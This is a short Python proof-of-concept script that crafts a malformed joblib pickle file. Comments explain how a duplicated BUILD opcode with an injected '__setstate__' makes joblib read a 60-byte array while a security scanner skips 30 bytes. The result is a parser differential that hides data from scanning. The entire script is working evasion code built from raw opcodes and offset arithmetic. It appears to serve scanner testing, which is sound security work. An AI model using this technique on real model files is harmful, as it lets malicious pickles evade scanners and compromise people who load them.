from common import *
# BUILD 1 stores a '__setstate__' attribute in the wrapper's __dict__ (collections.OrderedDict).
# pickle's load_build looks `__setstate__` up with getattr, so BUILD 2 (on the wrapper got back
# from the memo) calls OrderedDict(state) and leaves the attributes alone: joblib reads a
# second array of 60 bytes, the scanner applies BUILD 2's {'shape': (30,)} and skips 30.
hdr = b'\x80\x02'+wrapper6(60)+b'q\x05'+b'}'+U('__setstate__')+G('collections','OrderedDict')+b'sb'
mid = b'0'+b'h\x05'+b'}'+U('shape')+b'K\x1e\x85sb'
R2 = region(60,[30])
A1 = bytearray(60)
A1[0:5] = T(60-5+len(mid)+len(R2)-1)
run('b3.joblib', hdr+bytes(A1)+mid+R2)
